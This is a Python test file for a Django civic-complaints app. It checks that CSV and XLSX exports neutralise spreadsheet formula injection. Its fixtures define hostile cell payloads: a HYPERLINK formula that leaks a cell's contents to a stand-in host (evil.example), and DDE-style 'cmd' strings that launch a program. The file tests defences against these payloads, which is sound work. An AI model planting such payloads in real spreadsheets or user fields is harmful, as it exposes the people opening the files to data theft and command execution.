"""Formula injection: text that a spreadsheet would run as a formula is inert in every CSV and XLSX.

A citizen writes the title, an administrator the category, area and agency names; an officer opens
the file in a spreadsheet program. None of that text may become a live formula anywhere.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import time_machine
from django.core.cache import cache
from django.core.management import call_command
from django.test import Client

from aduan.reports.tests.handmade import NOW, at, build_july, make
from aduan.testing import City, staff_login

TITLE = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")'
CATEGORY = "+cmd|' /C calc'!A0"
AREA = "@SUM(1+1)*cmd|' /C calc'!A0"
AGENCY = "\t-2+3"
PAYLOADS = (TITLE, CATEGORY, AREA, AGENCY)


@pytest.fixture(autouse=True)
def _frozen() -> Iterator[None]:
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def hostile(city: City) -> str:
    cache.clear()
    build_july(city)
    city.road.name = CATEGORY
    city.road.save()
    city.kelurahan.name = AREA
    city.kelurahan.save()
    city.agency_a.name = AGENCY
    city.agency_a.short_name = ""
    city.agency_a.save()
    complaint = make(
        city,
        agency=city.agency_a,
        title=TITLE,
        created_at=at(7, 3, 9),
        first_response_at=at(7, 3, 10),
        rating=2,
        resolved_at=at(7, 30, 10),  # late: listed by code, category and agency in the report
    )
    return complaint.tracking_code


def _live(text: str) -> bool:
    """Would a spreadsheet program start a formula here? (A plain number is just a number.)"""
    if text[:1] in ("\t", "\r"):
        return True
    head = text.lstrip()[:1]
    if head not in ("=", "+", "-", "@"):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


def _csv_cells(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def _xlsx_cells(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_csv_inert(data: bytes, expected: tuple[str, ...]) -> None:
    cells = _csv_cells(data)
    assert [c for c in cells if _live(c)] == []
    for payload in expected:
        assert "'" + payload in cells, payload


def _assert_xlsx_inert(data: bytes, expected: tuple[str, ...]) -> None:
    cells = _xlsx_cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if _live(t)] == []
    for payload in expected:
        assert "'" + payload in texts, payload


def _body(response: Any) -> bytes:
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content)
    return bytes(response.content)


def test_the_staff_export_csv_and_xlsx_keep_titles_and_names_inert(
    client: Client, city: City, hostile: str
) -> None:
    staff_login(client, city.leadership)
    csv_data = _body(client.get("/staf/laporan/ekspor/", {"format": "csv"}))
    _assert_csv_inert(csv_data, PAYLOADS)
    xlsx_data = _body(client.get("/staf/laporan/ekspor/", {"format": "xlsx"}))
    _assert_xlsx_inert(xlsx_data, PAYLOADS)
    # The number columns stay numbers, the code stays the code.
    row = next(c for c in _xlsx_cells(xlsx_data) if c.value == hostile).row
    book = openpyxl.load_workbook(io.BytesIO(xlsx_data)).active
    assert book is not None
    assert any(isinstance(cell.value, int) for cell in book[row])


def test_the_monthly_report_csv_and_xlsx_keep_names_inert(
    client: Client, city: City, hostile: str
) -> None:
    staff_login(client, city.leadership)
    month = {"bulan": "2026-07"}
    csv_data = _body(client.get("/staf/laporan/bulanan/", {**month, "format": "csv"}))
    _assert_csv_inert(csv_data, (CATEGORY, AGENCY))
    xlsx_data = _body(client.get("/staf/laporan/bulanan/", {**month, "format": "xlsx"}))
    _assert_xlsx_inert(xlsx_data, (CATEGORY, AGENCY))
    # The area sits indented under its kecamatan: leading spaces do not hide the formula.
    assert "'  " + AREA in _csv_cells(csv_data)
    assert any(isinstance(c.value, int) for c in _xlsx_cells(xlsx_data))


def test_the_monthly_report_command_writes_inert_files(
    city: City, hostile: str, tmp_path: Path
) -> None:
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"laporan.{fmt}"
        call_command("monthly_report", month="2026-07", format=fmt, out=str(out))
        if fmt == "csv":
            _assert_csv_inert(out.read_bytes(), (CATEGORY, AGENCY))
        else:
            _assert_xlsx_inert(out.read_bytes(), (CATEGORY, AGENCY))


def test_open_data_csv_keeps_names_inert(client: Client, hostile: str) -> None:
    data = _body(client.get("/data/aduan.csv"))
    _assert_csv_inert(data, (CATEGORY, AREA, AGENCY))
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    located = [r for r in rows if r["lintang"]]
    assert located and all(float(r["lintang"]) < 0 for r in located)  # numbers are not prefixed


def test_the_cell_rule_leaves_numbers_and_plain_text_alone() -> None:
    from aduan.lib.cells import inert

    assert inert(-6.178) == -6.178
    assert inert(5) == 5
    assert inert(None) is None
    assert inert("Jalan berlubang") == "Jalan berlubang"
    assert inert("ADU-2026-0001-X") == "ADU-2026-0001-X"
    assert inert("  =1+1") == "'  =1+1"
    assert inert("\r=1+1") == "'\r=1+1"
    assert inert("-") == "'-"


def test_no_csv_or_xlsx_is_written_past_the_cell_rule() -> None:
    """Every writer goes through aduan/lib/cells.py; a new one that does not is caught here."""
    root = Path(__file__).resolve().parents[2]
    direct = re.compile(r"csv\.(writer|DictWriter)\(|\b(sheet|ws)\.append\(|\.cell\([^)]*value=")
    offenders = [
        f"{path.relative_to(root)}: {match.group(0)}"
        for path in sorted(root.rglob("*.py"))
        if "tests" not in path.parts and path.name != "cells.py"
        for match in direct.finditer(path.read_text())
    ]
    assert offenders == []
